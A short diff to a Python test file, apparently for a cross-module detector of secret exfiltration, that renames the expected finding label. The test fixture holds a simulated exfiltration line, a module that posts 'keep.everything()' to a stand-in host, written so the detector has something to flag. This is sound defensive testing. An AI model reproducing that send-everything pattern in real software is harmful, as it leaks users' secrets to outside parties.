@@ -38,7 +38,7 @@ def test_what_one_module_reads_and_another_sends_is_followed_through_a_third() -
         "wire_py": "import requests\ndef emit(where, what):\n    requests.post(where, json=what)\n",
         "run_py": "import keep\nfrom wire import emit as out\nout('https://in.tool.invalid', keep.everything())\n",
     }
-    assert together(**files) == [("wire.py", "python-sends-secrets", 3)]
+    assert together(**files) == [("wire.py", "secret-sent", 3)]
 
 
 def test_modules_that_import_each_other_are_read_once() -> None:
